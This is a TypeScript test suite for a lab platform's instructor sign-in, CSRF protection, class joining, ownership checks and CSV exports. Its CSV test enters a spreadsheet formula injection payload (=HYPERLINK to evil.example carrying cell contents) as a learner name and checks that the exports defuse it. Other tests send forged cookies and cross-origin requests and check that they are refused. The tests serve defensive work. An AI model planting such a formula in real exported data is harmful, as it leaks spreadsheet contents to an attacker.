/**
 * The instructor's front door and /join over real HTTP, with a fake lab
 * manager and a real store in a temporary file (no cluster).
 */
import assert from "node:assert/strict";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, it } from "node:test";
import { randomBytes } from "node:crypto";
import { DatabaseSync } from "node:sqlite";
import { WebSocket } from "ws";
import { createClassHttp, CSRF_HEADER, INSTRUCTOR_COOKIE } from "../../src/class/class-http.ts";
import { createClassService } from "../../src/class/class-service.ts";
import { hashPassword } from "../../src/class/passwords.ts";
import { createLabServer } from "../../src/server/server.ts";
import { openSqliteStore } from "../../src/store/sqlite/index.ts";
import { FakeExecTransport, FakeLabManager } from "../fakes/server-fakes.ts";
import { builtSite } from "../support/site.ts";

const cleanups: (() => Promise<void> | void)[] = [];
afterEach(async () => {
  for (const c of cleanups.splice(0).reverse()) await c();
});

const PASSWORD = "correct horse battery";

/** A server on a fresh store, or on the store in `again.dir` (a restart: give both the same session key). */
async function start(
  rates: { login?: number; join?: number } = {},
  again: { dir?: string; sessionSecret?: Buffer } = {},
) {
  const dir = again.dir ?? mkdtempSync(join(tmpdir(), "kubelab-class-http-"));
  const store = openSqliteStore({ path: join(dir, "p.db") });
  if (!again.dir) await store.setInstructor("ana", await hashPassword(PASSWORD, { N: 1024, r: 8, p: 1 }));
  const labManager = new FakeLabManager("namespace");
  const service = createClassService({
    store,
    labManager,
    pollMs: 50,
    lessons: [{ slug: "job", title: "Job", order: 1, exercises: ["job/echo"] }],
  });
  const terminalTransport = new FakeExecTransport().terminals();
  const instructor = createClassHttp({
    service,
    store,
    labManager,
    terminalTransport,
    sessionSecret: again.sessionSecret,
    loginRate: rates.login ? { burst: rates.login, perMinute: rates.login } : undefined,
    joinRate: rates.join ? { burst: rates.join, perMinute: rates.join } : undefined,
  });
  const server = createLabServer({
    labManager,
    grade: {
      has: () => true,
      grade: async () => {
        throw new Error("unused");
      },
    },
    terminalTransport,
    store,
    instructor,
    siteHandler: await builtSite(),
    port: 0,
  });
  const base = await server.listen();
  let running = true;
  const stop = async () => {
    if (!running) return;
    running = false;
    await server.close();
    await store.close();
  };
  cleanups.push(() => rmSync(dir, { recursive: true, force: true }), stop);
  return { base, store, labManager, service, dir, stop };
}

const form = (fields: Record<string, string>) => ({
  method: "POST",
  redirect: "manual" as const,
  headers: { "content-type": "application/x-www-form-urlencoded" },
  body: new URLSearchParams(fields).toString(),
});

async function signIn(base: string, password = PASSWORD, name = "ana") {
  const res = await fetch(`${base}/instructor/login?lang=en`, form({ name, password }));
  const cookie = res.headers.get("set-cookie")?.split(";")[0];
  return { res, cookie };
}

/** The status a refused WebSocket upgrade gets. */
function upgradeStatus(base: string, path: string, cookie: string): Promise<number | undefined> {
  return new Promise((resolve, reject) => {
    const ws = new WebSocket(`${base.replace(/^http/, "ws")}${path}`, { headers: { cookie, origin: base } });
    ws.on("unexpected-response", (_req, res) => {
      res.resume();
      resolve(res.statusCode);
    });
    ws.on("open", () => {
      ws.close();
      reject(new Error("the upgrade was accepted"));
    });
    ws.on("error", (err) => {
      if (!/Unexpected server response/.test(err.message)) reject(err);
    });
  });
}

async function csrfOf(base: string, cookie: string) {
  const html = await (await fetch(`${base}/instructor?lang=en`, { headers: { cookie } })).text();
  return JSON.parse(/<script type="application\/json" id="kubelab-instructor-data">(.*?)<\/script>/s.exec(html)![1])
    .csrf as string;
}

async function newClass(base: string, cookie: string, csrf: string, capacity = 2) {
  const res = await fetch(`${base}/api/instructor/classes`, {
    method: "POST",
    headers: { cookie, [CSRF_HEADER]: csrf, "content-type": "application/json" },
    body: JSON.stringify({ name: "Tuesday", lessons: ["job"], capacity, labLifetimeMinutes: 60 }),
  });
  assert.equal(res.status, 201, await res.clone().text());
  return (await res.json()) as { id: string; joinCode: string };
}

describe("instructor sign-in", () => {
  it("sets an HttpOnly, SameSite=Strict instructor cookie only for the right password", async () => {
    const { base } = await start();
    const wrong = await signIn(base, "not the password!");
    assert.equal(wrong.res.status, 401);
    assert.equal(wrong.cookie, undefined);
    const { res, cookie } = await signIn(base);
    assert.equal(res.status, 303);
    assert.match(res.headers.get("set-cookie")!, new RegExp(`^${INSTRUCTOR_COOKIE}=.*; HttpOnly; SameSite=Strict`));
    assert.equal((await fetch(`${base}/api/instructor/classes`, { headers: { cookie: cookie! } })).status, 200);
  });

  it("refuses every instructor endpoint without the cookie, with a learner's or a forged one", async () => {
    const { base } = await start();
    const learner = (await fetch(`${base}/api/lab`, { method: "POST" })).headers.get("set-cookie")!.split(";")[0];
    for (const cookie of [
      "",
      learner,
      learner.replace("kubelab_sid", INSTRUCTOR_COOKIE),
      `${INSTRUCTOR_COOKIE}=AAAAAAAAAAAAAAAAAAAAAA.zzzzzz.${"A".repeat(43)}`,
    ]) {
      assert.equal((await fetch(`${base}/api/instructor/classes`, { headers: { cookie } })).status, 401, cookie);
    }
    assert.equal(
      (await fetch(`${base}/instructor`, { redirect: "manual" })).status,
      303,
      "the page sends to the sign-in",
    );
  });

  it("ends a removed or re-passworded instructor's sessions at their next request", async () => {
    const { base, store } = await start();
    const { cookie } = await signIn(base);
    const csrf = await csrfOf(base, cookie!);
    const cls = await newClass(base, cookie!, csrf);
    const terminal = `/api/instructor/classes/${cls.id}/learners/nobody/terminal`;
    assert.equal(await upgradeStatus(base, terminal, cookie!), 404, "signed in: past authentication");
    assert.equal(await store.removeInstructor("ana"), "removed");
    assert.equal(await upgradeStatus(base, terminal, cookie!), 401);
    assert.equal((await fetch(`${base}/api/instructor/classes`, { headers: { cookie: cookie! } })).status, 401);
    const page = await fetch(`${base}/instructor?lang=en`, { headers: { cookie: cookie! }, redirect: "manual" });
    assert.equal(page.status, 303);
    assert.match(page.headers.get("location")!, /^\/instructor\/login/);
    assert.equal((await signIn(base)).res.status, 401, "nor can they sign in again");
    // Added back with a new password: the old cookie stays dead, the new password works.
    await store.setInstructor("ana", await hashPassword("another good password", { N: 1024, r: 8, p: 1 }));
    assert.equal((await fetch(`${base}/api/instructor/classes`, { headers: { cookie: cookie! } })).status, 401);
    const again = await signIn(base, "another good password");
    assert.equal(again.res.status, 303);
    const classes = await fetch(`${base}/api/instructor/classes`, { headers: { cookie: again.cookie! } });
    assert.equal(((await classes.json()) as { classes: unknown[] }).classes.length, 1, "their class stayed");
  });

  it("keeps sessions in the store: a restarted server knows them, a signed-out one stays out", async () => {
    const sessionSecret = randomBytes(32);
    const one = await start({}, { sessionSecret });
    const kept = await signIn(one.base);
    const out = await signIn(one.base);
    const csrf = await csrfOf(one.base, out.cookie!);
    const logout = await fetch(`${one.base}/api/instructor/logout`, {
      method: "POST",
      headers: { cookie: out.cookie!, [CSRF_HEADER]: csrf },
    });
    assert.equal(logout.status, 204);
    await one.stop();
    const db = new DatabaseSync(join(one.dir, "p.db"), { readOnly: true });
    const rows = db.prepare("SELECT id_hash FROM instructor_sessions").all() as { id_hash: string }[];
    db.close();
    assert.equal(rows.length, 1, "the signed-out session is gone");
    const id = decodeURIComponent(kept.cookie!.split("=")[1]).split(".")[0];
    assert.ok(!rows.some((r) => r.id_hash.includes(id)), "only a hash of the id is kept");
    const two = await start({}, { dir: one.dir, sessionSecret });
    const classes = (cookie: string) => fetch(`${two.base}/api/instructor/classes`, { headers: { cookie } });
    assert.equal((await classes(kept.cookie!)).status, 200, "signed in across the restart");
    assert.equal((await classes(out.cookie!)).status, 401, "signed out stays signed out");
    const other = await start({}, { dir: one.dir });
    const elsewhere = await fetch(`${other.base}/api/instructor/classes`, { headers: { cookie: kept.cookie! } });
    assert.equal(elsewhere.status, 401, "a server with another key does not take the cookie");
  });

  it("rate-limits failed sign-ins per address; a success does not count", async () => {
    const { base } = await start({ login: 3 });
    assert.equal((await signIn(base)).res.status, 303);
    for (let i = 0; i < 3; i++) assert.equal((await signIn(base, "wrong password!")).res.status, 401);
    const limited = await signIn(base);
    assert.equal(limited.res.status, 429);
    assert.ok(Number(limited.res.headers.get("retry-after")) > 0);
  });

  it("refuses a cross-origin sign-in form", async () => {
    const { base } = await start();
    const res = await fetch(`${base}/instructor/login`, {
      ...form({ name: "ana", password: PASSWORD }),
      headers: { "content-type": "application/x-www-form-urlencoded", origin: "http://evil.example" },
    });
    assert.equal(res.status, 403);
  });
});

describe("the class pages", () => {
  it("are the site's pages, rendered only through the class routes: a server without classes answers them 404", async () => {
    const { base } = await start();
    const page = await fetch(`${base}/join?lang=en&code=ABC123`);
    assert.equal(page.status, 200);
    assert.match(page.headers.get("content-security-policy")!, /script-src 'self'/);
    const html = await page.text();
    assert.match(html, /<html lang="en">/);
    assert.match(html, /<input[^>]*name="code"[^>]*value="ABC123"/, "the code from the link is filled in");

    const plain = createLabServer({
      labManager: new FakeLabManager("namespace"),
      grade: { has: () => false, grade: async () => Promise.reject(new Error("unused")) },
      terminalTransport: new FakeExecTransport().terminals(),
      siteHandler: await builtSite(),
      port: 0,
    });
    const other = await plain.listen();
    cleanups.push(() => plain.close());
    for (const path of ["/join", "/instructor/login", "/instructor", "/instructor/class/abc"])
      assert.equal((await fetch(`${other}${path}`)).status, 404, path);
  });
});

describe("instructor CSRF", () => {
  it("refuses a POST without the CSRF header, with another session's token, or from another origin", async () => {
    const { base } = await start();
    const { cookie } = await signIn(base);
    const other = (await signIn(base)).cookie!;
    const otherCsrf = await csrfOf(base, other);
    const body = JSON.stringify({ name: "x", lessons: ["job"], capacity: 2, labLifetimeMinutes: 60 });
    const post = (headers: Record<string, string>) =>
      fetch(`${base}/api/instructor/classes`, {
        method: "POST",
        headers: { cookie: cookie!, "content-type": "application/json", ...headers },
        body,
      });
    assert.equal((await post({})).status, 403);
    assert.equal((await post({ [CSRF_HEADER]: otherCsrf })).status, 403);
    const csrf = await csrfOf(base, cookie!);
    assert.equal((await post({ [CSRF_HEADER]: csrf, origin: "http://evil.example" })).status, 403);
    assert.equal((await post({ [CSRF_HEADER]: csrf })).status, 201);
  });
});

describe("joining a class", () => {
  it("gives a learner a session and their lab, lands them on the first lesson, and says when the class is full", async () => {
    const { base, store, labManager, service } = await start();
    const { cookie } = await signIn(base);
    const cls = await newClass(base, cookie!, await csrfOf(base, cookie!), 1);
    const joined = await fetch(
      `${base}/join?lang=en`,
      form({ code: cls.joinCode.toLowerCase().replace(/^(...)/, "$1-"), name: "Li Lei" }),
    );
    assert.equal(joined.status, 303);
    assert.equal(joined.headers.get("location"), "/en/job/");
    const sid = joined.headers.get("set-cookie")!;
    assert.match(sid, /^kubelab_sid=.*HttpOnly/);
    assert.equal(labManager.labs.size, 1, "the learner has a lab");
    const members = await store.members(cls.id);
    assert.deepEqual(
      members.map((m) => m.learner.displayName),
      ["Li Lei"],
    );

    const full = await fetch(`${base}/join?lang=en`, form({ code: cls.joinCode, name: "Han Meimei" }));
    assert.equal(full.status, 409);
    assert.match(await full.text(), /full \(1 places\)/);

    // A lab made again later (after it idled out) is the class's again.
    const [sessionId] = labManager.labs.keys();
    assert.deepEqual(await service.labOptions(sessionId), {
      labels: { "kubelab.dev/class": cls.id },
      idleTimeoutMs: 60 * 60_000,
      // Its learner's share of the cluster is cut for the class's places.
      places: 1,
    });
    assert.equal(await service.labOptions("not-a-member"), undefined);

    const zh = await fetch(`${base}/join?lang=zh-CN`);
    assert.match(await zh.text(), /加入课堂/);
  });

  it("turns a crowd away from a full class: rate-limited like wrong codes, and no learner row written", async () => {
    const { base, store } = await start({ join: 5 });
    const { cookie } = await signIn(base);
    const cls = await newClass(base, cookie!, await csrfOf(base, cookie!), 1);
    assert.equal((await fetch(`${base}/join`, form({ code: cls.joinCode, name: "first" }))).status, 303);
    const learnersBefore = (await store.export()).learners.length;
    const statuses: number[] = [];
    for (let i = 0; i < 30; i++)
      statuses.push((await fetch(`${base}/join`, form({ code: cls.joinCode, name: `crowd ${i}` }))).status);
    assert.deepEqual(statuses.slice(0, 5), [409, 409, 409, 409, 409], "the first are told the class is full");
    assert.ok(
      statuses.slice(5).every((s) => s === 429),
      `then the address is slowed down like for wrong codes: ${statuses}`,
    );
    assert.equal((await store.export()).learners.length, learnersBefore, "no learner row for anyone turned away");
    assert.equal((await store.members(cls.id)).length, 1);
  });

  it("lets a classroom behind one address (its NAT) join all at once, past the wrong-code limit", async () => {
    const { base, store } = await start({ join: 3 });
    const { cookie } = await signIn(base);
    const cls = await newClass(base, cookie!, await csrfOf(base, cookie!), 12);
    const statuses = await Promise.all(
      Array.from(
        { length: 12 },
        async (_, i) => (await fetch(`${base}/join`, form({ code: cls.joinCode, name: `learner ${i}` }))).status,
      ),
    );
    assert.deepEqual(statuses, Array(12).fill(303), "every learner with the right code is in");
    assert.equal((await store.members(cls.id)).length, 12);
    for (let i = 0; i < 3; i++)
      assert.equal((await fetch(`${base}/join`, form({ code: "ACD479", name: "x" }))).status, 404);
    assert.equal(
      (await fetch(`${base}/join`, form({ code: "ACD479", name: "x" }))).status,
      429,
      "wrong codes still limited",
    );
  });

  it("rate-limits wrong codes per address", async () => {
    const { base } = await start({ join: 3 });
    for (let i = 0; i < 3; i++)
      assert.equal((await fetch(`${base}/join`, form({ code: "ACD479", name: "x" }))).status, 404);
    assert.equal((await fetch(`${base}/join`, form({ code: "ACD479", name: "x" }))).status, 429);
  });
});

describe("the grid", () => {
  it("shows a learner's Check within 2 s over Server-Sent Events, and exports it as CSV", async () => {
    const { base, store } = await start();
    const { cookie } = await signIn(base);
    const cls = await newClass(base, cookie!, await csrfOf(base, cookie!));
    await fetch(`${base}/join`, form({ code: cls.joinCode, name: 'Li, "Lei"' }));
    const [member] = await store.members(cls.id);

    const controller = new AbortController();
    cleanups.push(() => controller.abort());
    const events = await fetch(`${base}/api/instructor/classes/${cls.id}/events`, {
      headers: { cookie: cookie! },
      signal: controller.signal,
    });
    assert.equal(events.headers.get("content-type"), "text/event-stream; charset=utf-8");
    const reader = events.body!.getReader();
    const started = Date.now();
    await store.recordAttempt({
      learnerId: member.learner.id,
      mode: "namespace",
      result: {
        exercise: "job/echo",
        passed: true,
        score: 3,
        maxScore: 3,
        durationMs: 10,
        checks: [{ id: "exists", title: "t", passed: true, points: 3, message: "ok" }],
      },
    });
    let text = "";
    // The join just before may come first: the feed carries changes in commit order.
    while (!text.includes('"kind":"attempt"')) text += new TextDecoder().decode((await reader.read()).value);
    assert.ok(Date.now() - started < 2000, `within 2 s (${Date.now() - started} ms)`);
    assert.match(
      text,
      /event: change\ndata: \{"classId":"[0-9a-f]+","learnerId":"[^"]+","kind":"attempt","exercise":"job\/echo"\}/,
    );

    const grid = await (
      await fetch(`${base}/api/instructor/classes/${cls.id}/grid`, { headers: { cookie: cookie! } })
    ).json();
    assert.equal(grid.rows[0].cells["job/echo"].passed, true);
    const csv = await (
      await fetch(`${base}/api/instructor/classes/${cls.id}/grid.csv`, { headers: { cookie: cookie! } })
    ).text();
    assert.match(csv, /"Li, ""Lei""",3,3,1,yes/);
    const attempts = await (
      await fetch(`${base}/api/instructor/classes/${cls.id}/attempts.csv`, { headers: { cookie: cookie! } })
    ).text();
    assert.match(attempts, /job\/echo,yes,3,3,10,\w+,[^,]*,[^,]*,no,exists:passed/);
  });
});

describe("instructors own their classes", () => {
  it("answers another instructor's class as missing on every route, the list included; an admin may act on it", async () => {
    const { base, store } = await start();
    const hash = await hashPassword(PASSWORD, { N: 1024, r: 8, p: 1 });
    await store.setInstructor("bo", hash);
    await store.setInstructor("root", hash, { admin: true });
    const ana = (await signIn(base)).cookie!;
    const cls = await newClass(base, ana, await csrfOf(base, ana));
    await fetch(`${base}/join`, form({ code: cls.joinCode, name: "Li Lei" }));
    const [member] = await store.members(cls.id);
    const as = async (name: string) => {
      const cookie = (await signIn(base, PASSWORD, name)).cookie!;
      const csrf = await csrfOf(base, cookie);
      const call = (method: string, path: string, body: unknown = {}) =>
        fetch(`${base}/api/instructor/classes${path}`, {
          method,
          headers: { cookie, [CSRF_HEADER]: csrf, "content-type": "application/json" },
          ...(method === "POST" ? { body: JSON.stringify(body) } : {}),
        });
      return { cookie, call };
    };
    const c = `/${cls.id}`;
    const l = `${c}/learners/${member.learner.id}`;
    const routes: [string, string, unknown?][] = [
      ["GET", `${c}/grid`],
      ["GET", `${c}/grid.csv`],
      ["GET", `${c}/attempts.csv`],
      ["GET", `${c}/exam.csv`],
      ["GET", `${l}/attempts`],
      ["POST", `${l}/reset`],
      ["POST", `${l}/extend`, { minutes: 30 }],
      ["POST", `${c}/exam`, { exam: "ckad-mock" }],
      ["POST", `${l}/exam/submit`],
      ["POST", `${c}/exam/end`],
    ];
    const bo = await as("bo");
    const listed = (await (await bo.call("GET", "")).json()) as { classes: { id: string }[] };
    assert.deepEqual(listed.classes, [], "bo's list does not show ana's class");
    for (const [method, path, body] of [...routes, ["GET", `${c}/events`], ["POST", `${c}/end`]] as const) {
      const res = await bo.call(method, path, body);
      assert.equal(res.status, 404, `bo: ${method} ${path}`);
      assert.doesNotMatch(await res.text(), /Li Lei|Tuesday|ana/, "nothing of the class leaks");
    }
    const terminal = `/api/instructor/classes${l}/terminal`;
    assert.equal(await upgradeStatus(base, terminal, bo.cookie), 404, "bo: read-only terminal");

    const root = await as("root");
    const all = (await (await root.call("GET", "")).json()) as { classes: { id: string }[] };
    assert.deepEqual(
      all.classes.map((x) => x.id),
      [cls.id],
      "an admin sees every class",
    );
    for (const [method, path, body] of routes) {
      const res = await root.call(method, path, body);
      // Past the ownership check: the learner has no running exam to submit, the fake lab manager cannot extend.
      const expected = path.endsWith("/exam/submit") || path.endsWith("/extend") ? 409 : 200;
      assert.equal(res.status, expected, `root: ${method} ${path}: ${await res.text()}`);
    }
    assert.equal((await root.call("POST", `${c}/end`)).status, 200, "an admin may end it");
  });
});

describe("exports are data, never formulas", () => {
  it("writes a formula-like display name as text in grid.csv, attempts.csv and exam.csv", async () => {
    const { base, store } = await start();
    const { cookie } = await signIn(base);
    const cls = await newClass(base, cookie!, await csrfOf(base, cookie!));
    const evil = '=HYPERLINK("http://evil.example/?"&A2&B2,"Open")';
    assert.equal((await fetch(`${base}/join`, form({ code: cls.joinCode, name: evil }))).status, 303);
    const [member] = await store.members(cls.id);
    assert.equal(member.learner.displayName, evil, "the name is kept as typed");
    await store.recordAttempt({
      learnerId: member.learner.id,
      mode: "namespace",
      result: { exercise: "job/echo", passed: false, score: 0, maxScore: 3, durationMs: 5, checks: [] },
    });
    for (const file of ["grid.csv", "attempts.csv", "exam.csv"]) {
      const text = await (
        await fetch(`${base}/api/instructor/classes/${cls.id}/${file}`, { headers: { cookie: cookie! } })
      ).text();
      const cell = `"'=HYPERLINK(""http://evil.example/?""&A2&B2,""Open"")"`;
      assert.ok(text.includes(`,${cell},`), `${file} holds the name as text:\n${text}`);
      assert.doesNotMatch(text, /(^|,)"?=/m, `${file} has no cell starting with =`);
    }
  });
});

describe("one learner and the end of a class", () => {
  it("resets and extends a member's lab, lists their attempts; ending the class deletes the labs, keeps progress and frees the code", async () => {
    const { base, store, labManager } = await start();
    const { cookie } = await signIn(base);
    const csrf = await csrfOf(base, cookie!);
    const cls = await newClass(base, cookie!, csrf);
    await fetch(`${base}/join`, form({ code: cls.joinCode, name: "Li Lei" }));
    const [member] = await store.members(cls.id);
    await store.recordAttempt({
      learnerId: member.learner.id,
      mode: "namespace",
      result: { exercise: "job/echo", passed: false, score: 0, maxScore: 3, durationMs: 1, checks: [] },
    });
    const post = (path: string, body: unknown = {}) =>
      fetch(`${base}/api/instructor/classes/${cls.id}${path}`, {
        method: "POST",
        headers: { cookie: cookie!, [CSRF_HEADER]: csrf, "content-type": "application/json" },
        body: JSON.stringify(body),
      });
    const learner = `/learners/${member.learner.id}`;
    assert.equal((await post(`${learner}/reset`)).status, 200);
    assert.ok(labManager.calls.some((c) => c.startsWith("reset ")));
    assert.equal((await post(`${learner}/extend`, { minutes: 0 })).status, 400);
    const attempts = await (
      await fetch(`${base}/api/instructor/classes/${cls.id}${learner}/attempts`, { headers: { cookie: cookie! } })
    ).json();
    assert.equal(attempts.attempts.length, 1);
    assert.equal(
      (
        await fetch(`${base}/api/instructor/classes/${cls.id}/learners/nobody/attempts`, {
          headers: { cookie: cookie! },
        })
      ).status,
      404,
    );

    assert.equal((await post("/end")).status, 200);
    assert.equal(labManager.labs.size, 0, "the class's labs are deleted");
    assert.equal((await store.attempts({ learnerId: member.learner.id })).length, 1, "progress is kept");
    assert.equal((await fetch(`${base}/join`, form({ code: cls.joinCode, name: "late" }))).status, 404);
    assert.equal(
      (await fetch(`${base}/api/instructor/classes/${cls.id}/grid`, { headers: { cookie: cookie! } })).status,
      404,
    );
  });
});
